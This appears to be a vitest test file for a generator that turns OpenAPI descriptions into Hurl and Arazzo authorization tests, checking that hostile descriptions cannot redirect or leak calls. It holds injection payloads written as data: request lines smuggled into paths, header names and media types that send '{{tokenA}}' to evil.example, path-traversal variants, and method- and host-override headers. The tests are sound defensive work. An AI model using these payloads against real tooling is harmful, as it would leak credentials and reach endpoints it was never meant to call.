import { parse } from "yaml";
import { describe, expect, test } from "vitest";
import { arazzoText } from "../../src/authorization-tests/formats/arazzo.ts";
import { hurlFault, hurlText } from "../../src/authorization-tests/formats/hurl.ts";
import { apiIn, setOf } from "./made.ts";

interface Changes {
  readonly path?: string;
  readonly parameters?: readonly object[];
  readonly body?: object;
  readonly media?: string;
  readonly answered?: string;
  readonly scheme?: string;
  readonly role?: readonly string[];
}

/** An API of orders, of which some texts are hostile. */
function description({
  path = "/orders/{orderId}",
  parameters = [],
  body,
  media,
  answered,
  scheme,
  role,
}: Changes): string {
  const json = (schema: object): object => ({
    "200": { description: "OK", content: { [answered ?? "application/json"]: { schema } } },
    "403": { description: "No" },
  });
  const order = {
    type: "object",
    required: ["id", "iban"],
    properties: { id: { type: "string" }, iban: { type: "string" } },
  };
  const user = {
    type: "object",
    required: ["id", "email", "role"],
    properties: {
      id: { type: "string" },
      email: { type: "string" },
      role: { type: "string", enum: role ?? ["user", "admin"] },
    },
  };
  const requestBody = { required: true, content: { [media ?? "application/json"]: { schema: body ?? order } } };
  const id = { name: "orderId", in: "path", required: true, schema: { type: "string" } };
  return JSON.stringify({
    openapi: "3.0.3",
    info: { title: "Shop", version: "1" },
    security: [{ [scheme ?? "token"]: [] }],
    paths: {
      "/me": {
        get: { operationId: "getMe", responses: json(user) },
        put: {
          operationId: "putMe",
          requestBody: {
            content: { "application/json": { schema: { type: "object", properties: { email: { type: "string" } } } } },
          },
          responses: json(user),
        },
      },
      "/orders": {
        post: { operationId: "createOrder", requestBody, responses: json(order) },
        get: { operationId: "listOrders", responses: json({ type: "array", items: order }) },
      },
      "/orders/{orderId}/lines": {
        get: {
          operationId: "getLines",
          parameters: [id, ...parameters],
          responses: json({ type: "array", items: order }),
        },
      },
      [path]: {
        get: { operationId: "getOrder", parameters: [id], responses: json(order) },
        delete: {
          operationId: "deleteOrder",
          parameters: [id],
          responses: { "204": { description: "Gone" }, "403": { description: "No" } },
        },
      },
    },
    components: { securitySchemes: { [scheme ?? "token"]: { type: "http", scheme: "bearer" } } },
  });
}

const header = (name: string, schema: object): Changes => ({
  parameters: [{ name, in: "header", required: true, schema }],
});
const query = (name: string, schema: object): Changes => ({
  parameters: [{ name, in: "query", required: true, schema }],
});
const text = (more: object): object => ({ type: "string", ...more });
const object = (name: string, schema: object): Changes => ({
  body: { type: "object", required: [name], properties: { [name]: schema } },
});

describe("a text of a description that a runner would take for its own", () => {
  test.each<readonly [string, Changes, string]>([
    ["a path that is the end of a host", { path: ".evil.example/orders/{orderId}" }, "does not begin with exactly one"],
    ["a path that is a port and a user", { path: ":18081/at/{orderId}" }, "does not begin with exactly one"],
    ["a path of another host", { path: "//evil.example/{orderId}" }, "does not begin with exactly one"],
    [
      "a path with a request behind it",
      { path: "/o/{orderId}\n\nGET https://evil.example/{{tokenA}}\n#" },
      "could lead to another path or host",
    ],
    ["a path in the folder above", { path: "/../admin/{orderId}" }, "could lead to another path or host"],
    ["a path in the folder above, encoded", { path: "/%2e%2e/admin/{orderId}" }, "could lead to another path or host"],
    [
      "a folder above, in characters of full width",
      { path: "/x/．．/{orderId}" },
      "could lead to another path or host",
    ],
    ["a folder above, with one dot encoded", { path: "/x/.%2e/{orderId}" }, "could lead to another path or host"],
    [
      "a folder above, behind a slash of full width",
      { path: "/x／../{orderId}" },
      "could lead to another path or host",
    ],
    ["a folder above, with a parameter of it", { path: "/x/..;v=1/{orderId}" }, "could lead to another path or host"],
    [
      "a path with a backslash of full width",
      { path: "/＼evil.example/{orderId}" },
      "could lead to another path or host",
    ],
    ["a header of Envoy's", header("X-Envoy-Original-Path", text({ enum: ["/admin"] })), "can change the host, path"],
    [
      "a header of Envoy's that says where to",
      header("X-Envoy-Original-Dst-Host", text({ enum: ["10.0.0.1:80"] })),
      "can change the host, path",
    ],
    ["a header of Traefik's", header("X-Forwarded-Method", text({ enum: ["DELETE"] })), "can change the host, path"],
    ["a header for the host behind", header("X-Backend-Host", text({ enum: ["evil.example"] })), "can change the host"],
    [
      "a header that holds the call up",
      header("Expect", text({ enum: ["100-continue"] })),
      "can change the host, path",
    ],
    ["a header that frames the call", header("TE", text({ enum: ["trailers"] })), "can change the host, path"],
    ["a method in the query", query("_method", text({ enum: ["PUT"] })), "can change the host, path or method"],
    ["a method in the body", object("_method", text({ enum: ["put"] })), "can change the method of the call"],
    [
      "another of these",
      object("X-HTTP-Method-Override", text({ enum: ["put"] })),
      "can change the method of the call",
    ],
    ["a path with a fragment", { path: "/x/{orderId}#Action=Delete" }, "is never sent"],
    ["a path with a variable", { path: "/x/{{tokenA}}/{orderId}" }, "could lead to another path or host"],
    ["a path whose name is an expression", { path: "/x/{$inputs.tokenB}/{orderId}" }, "a name in its path"],
    [
      "a header that says which path is called",
      header("X-Original-URL", text({ enum: ["/admin/delete"] })),
      "can change the host, path or method",
    ],
    [
      "a header that says which host is called",
      header("X-Forwarded-Host", text({ enum: ["evil.example"] })),
      "can change the host, path or method",
    ],
    ["the name of a header", header("X-N\n\nGET https://evil.example/{{tokenA}}\nX", text({})), "the name of a header"],
    ["the name of a query parameter", query("$inputs.tokenB", text({})), "the name of a query"],
    [
      "a header that says for whom a call is",
      header("Host", text({ example: "evil.example" })),
      "can change the host, path or method",
    ],
    [
      "a header that says what is done",
      header("X-HTTP-Method-Override", text({ enum: ["DELETE"] })),
      "can change the host, path or method",
    ],
    ["the name of a property", object("{{tokenA}}", text({})), "its body contains an expression"],
    ["a property that is an expression", object("$inputs.tokenB", text({})), "its body contains an expression"],
    ["a media type", { media: "application/json\nX: {{tokenA}}" }, "media types"],
    ["a media type of an answer", { answered: "application/json; x={$inputs.tokenA}" }, "media types"],
  ])("%s: the tests are left out, and it is said", async (_, changes, why) => {
    const api = await apiIn(description(changes));
    const { manual, refused } = setOf(api);
    expect([...manual, ...refused].map((one) => one.why).join("\n")).toContain(why);
    await expectOnlyOwn(changes);
  });

  test("what is left out names its operation once", async () => {
    const { manual, refused } = setOf(await apiIn(description(query("{{tokenA}}", text({})))));
    const left = [...manual, ...refused].filter(({ operation }) => operation.id === "GET /orders/{orderId}/lines");
    expect(left.map(({ title, why }) => `${title}: ${why}`)).toEqual([
      "user A: list the lines of B's order: the name of a query parameter contains an expression or variable, which a runner would evaluate",
      "anyone without a credential: GET /orders/{orderId}/lines: the name of a query parameter contains an expression or variable, which a runner would evaluate",
    ]);
  });

  test("the reason names the operation where another call is in the way", async () => {
    const { manual, refused } = setOf(await apiIn(description(object("{{tokenA}}", text({})))));
    const told = [...manual, ...refused].map(({ operation, why }) => `${operation.id}: ${why}`);
    expect(new Set(told)).toEqual(
      new Set([
        "DELETE /orders/{orderId}: POST /orders: its body contains an expression or variable, which a runner would evaluate",
      ]),
    );
  });

  test("what is tried with each of two identifiers, and must be made by hand, stands once", async () => {
    const { manual } = setOf(
      await apiIn(description({ path: "/orders/{orderId}/$run{x}", answered: "a/b; x={{tokenA}}" })),
    );
    const told = manual.map(({ rank, title, why }) => `${rank}. ${title}: ${why}`);
    expect(told.filter((one) => one.includes("read B's x"))).toHaveLength(1);
  });

  test.each<readonly [string, Changes]>([
    ["an example of a header", header("X-Baz", text({ example: "a\n\nDELETE https://evil.example/{{tokenA}}" }))],
    [
      "a pattern that has line breaks",
      header("X-Foo", text({ pattern: "^x\\n\\nGET https:\\/\\/evil\\.example\\/\\{\\{tokenA\\}\\}\\nHTTP \\*\\n$" })),
    ],
    ["a pattern that is an expression", header("X-Bar", text({ pattern: "^\\$inputs\\.tokenB$" }))],
    ["a value of a query", query("x", text({ enum: ["a {$inputs.tokenB} b"] }))],
    ["a value of a body", object("x", text({ example: "$inputs.tokenB" }))],
    [
      "a constant deep in a body",
      object("x", { type: "array", items: object("y", text({ enum: ["{{tokenB}}"] })).body! }),
    ],
    [
      "a value of a list",
      object("x", { type: "array", minItems: 1, items: text({ enum: ["$inputs.tokenB", "{{tokenB}}"] }) }),
    ],
    ["a role that is tried", { role: ["user", "$inputs.tokenB"] }],
    ["a role that ends an assertion", { role: ["user", "a/\nGET https://evil.example/{{tokenA}}\n"] }],
    ["a scheme", { scheme: "{{tokenA}}\n" }],
  ])("%s: nothing of it is written", async (_, changes) => {
    await expectOnlyOwn(changes);
  });

  test("a value in a path stays in its folder", async () => {
    const { tests, manual, refused } = setOf(
      await apiIn(
        description({})
          .replace('"/orders/{orderId}/lines"', '"/orders/{orderId}/files/{file}"')
          .replace(
            '"operationId":"getLines","parameters":[',
            '"operationId":"getLines","parameters":[{"name":"file","in":"path","required":true,"schema":{"type":"string","enum":["../../../admin"]}},',
          ),
      ),
    );
    const sent = JSON.stringify(tests.map(({ steps }) => steps.map(({ parameters }) => parameters)));
    expect(sent).not.toContain("..");
    expect(manual.length + refused.length + tests.length).toBeGreaterThan(0);
  });
});

/** Whatever is written calls the address of the service alone, and shows tokens in their header alone. */
async function expectOnlyOwn(changes: Changes): Promise<void> {
  const api = await apiIn(description(changes));
  const { tests } = setOf(api);
  const hurl = tests
    .filter((one) => hurlFault(one) === undefined)
    .map((one) => hurlText(one, api))
    .join("\n");
  const lines = hurl.split("\n").filter((line) => !line.startsWith("#"));
  for (const line of lines) {
    if (/^[A-Z]+ /.test(line) && line !== "HTTP *") expect(line).toMatch(/^[A-Z]+ \{\{baseUrl\}\}\/(?!\/)/);
    if (line.includes("{{token")) expect(line).toMatch(/^Authorization: Bearer \{\{token\w+\}\}$/);
  }
  expect(lines.join("\n")).not.toContain("evil");
  const { workflows } = parse(arazzoText(tests, { api, url: "openapi.yaml", server: undefined })) as {
    workflows: {
      steps: { operationPath?: string; parameters: { name: string; value: unknown }[]; requestBody?: object }[];
    }[];
  };
  for (const { parameters, requestBody, operationPath = "" } of workflows.flatMap(({ steps }) => steps)) {
    const others = parameters.filter(({ name }) => name !== "Authorization");
    expect(`${JSON.stringify([others, requestBody])}${operationPath}`).not.toMatch(/token[AB]|evil/);
  }
}

test("servers of an operation, and calls that would show a token, change nothing", async () => {
  const document = JSON.parse(description({})) as { paths: Record<string, Record<string, object>> };
  const servers = [{ url: "https://evil.example" }];
  for (const item of Object.values(document.paths)) {
    for (const operation of Object.values(item)) Object.assign(operation, { servers });
    Object.assign(item, { servers, trace: { responses: { "200": { description: "OK" } } } });
  }
  const api = await apiIn(JSON.stringify(document));
  const { tests } = setOf(api);
  expect(tests.length).toBeGreaterThan(0);
  const written = [
    arazzoText(tests, { api, url: "openapi.yaml", server: undefined }),
    ...tests.map((one) => hurlText(one, api)),
  ];
  expect(written.join("\n")).not.toMatch(/evil|trace/i);
});

test("an identifier that is called as a credential is gets a name of its own", async () => {
  const api = await apiIn(description({}).replaceAll("orderId", "token").replaceAll('"/orders"', '"/carts"'));
  const inputs = setOf(api).tests.flatMap(({ id, steps }) =>
    steps.flatMap(({ parameters }) =>
      parameters.flatMap(({ in: place, value }) =>
        place === "path" && typeof value === "object" && value !== null && "from" in value
          ? [`${id} ${JSON.stringify(value)}`]
          : [],
      ),
    ),
  );
  expect(inputs.join("\n")).toContain("tokenValueB");
  expect(inputs.join("\n")).not.toMatch(/"tokenB"/);
});
